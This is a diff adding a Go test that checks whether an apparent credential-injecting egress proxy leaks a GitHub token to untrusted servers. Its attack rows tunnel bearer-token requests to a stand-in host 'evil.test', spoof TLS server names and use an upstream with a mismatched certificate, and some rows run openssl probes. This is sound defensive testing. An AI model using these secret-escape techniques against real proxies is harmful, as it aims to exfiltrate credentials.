@@ -495,3 +495,40 @@ print(c.recv(65536).decode())'`, path: "/f17", reach: sent},
 		assert.NotContains(t, h.dump, ghValue, "%s: no value at %s", h.path, h.origin)
 	}
 }
+
+// TestSecretEscapeTrust is the family of attacks on whom the proxy
+// believes and what it shows: it terminates TLS for the secrets' hosts
+// only, whatever server name the client gives; it sends a value only to a
+// server verified for the host's name by the host's roots and --ca-file.
+func TestSecretEscapeTrust(t *testing.T) {
+	requireRootless(t)
+	// httptest's certificate is for example.com: wrong.example's is wrong.
+	o := startOrigins(t, nil, []string{"example.com", "evil.test", "wrong.example"})
+	tp, etp, wp := o.port("example.com"), o.port("evil.test"), o.port("wrong.example")
+	get := func(path, host string) string {
+		return httpReq("GET", path, "Host: "+host+"\r\nAuthorization: Bearer {S}\r\n", "")
+	}
+	untouched := []string{"issuer=origin", "origin evil.test"}
+	rows := []attack{
+		// A host no secret is for, with a secret host's server name: not terminated.
+		{name: "no secret, secret's SNI", cmd: tunnelAttack("connect", "evil.test", etp, "example.com", get("/t1", "evil.test")), path: "/t1", want: untouched, reach: []string{"evil.test"}},
+		{name: "no secret, own SNI", cmd: tunnelAttack("connect", "evil.test", etp, "evil.test", get("/t2", "evil.test")), path: "/t2", want: untouched, reach: []string{"evil.test"}},
+		{name: "no secret, SOCKS", cmd: tunnelAttack("socks", "evil.test", etp, "example.com", get("/t3", "evil.test")), path: "/t3", want: untouched, reach: []string{"evil.test"}},
+		// A secret's host whose server shows a certificate for another name.
+		{name: "upstream with the wrong name", cmd: tunnelAttack("connect", "wrong.example", wp, "wrong.example", get("/t4", "wrong.example")), path: "/t4", want: []string{"issuer=boxsh", "502", "TLS to wrong.example:" + wp}},
+		// A client that does not verify gets the proxy's certificate, for the host alone.
+		{name: "the proxy's certificate", cmd: `echo | openssl s_client -proxy 127.0.0.1:3128 -connect example.com:` + tp + ` -servername example.com -CAfile /.boxsh/egress-ca.crt 2>&1 | grep -E "^(subject|issuer)=|Verify return code|DNS:" ; echo | openssl s_client -proxy 127.0.0.1:3128 -connect example.com:` + tp + ` -servername example.com 2>/dev/null | openssl x509 -noout -ext subjectAltName`, want: []string{"subject=CN = example.com", "issuer=O = boxsh, CN = boxsh egress CA", "Verify return code: 0 (ok)", "DNS:example.com"}, nowant: []string{"DNS:evil", "*"}},
+		// The control: the secret's host verified by --ca-file.
+		{name: "control", cmd: tunnelAttack("connect", "example.com", tp, "example.com", get("/t5", "example.com")), path: "/t5", want: []string{"issuer=boxsh", "200 OK"}, reach: []string{"example.com"}},
+	}
+	t.Run("ca-file", func(t *testing.T) {
+		runAttacks(t, o, []string{"--secret", "GH_TOKEN=example.com,wrong.example", "--ca-file", o.pem, "--allow-domain", "evil.test"}, rows)
+	})
+	t.Run("no ca-file", func(t *testing.T) {
+		// Without --ca-file the host's roots do not have httptest's: no server is believed.
+		runAttacks(t, o, []string{"--secret", "GH_TOKEN=example.com"}, []attack{
+			{name: "self-signed upstream", cmd: tunnelAttack("connect", "example.com", tp, "example.com", get("/t6", "example.com")), path: "/t6", want: []string{"issuer=boxsh", "502", "certificate"}},
+		})
+	})
+	checkValuesWent(t, o, map[string][]string{ghValue: {"example.com"}})
+}
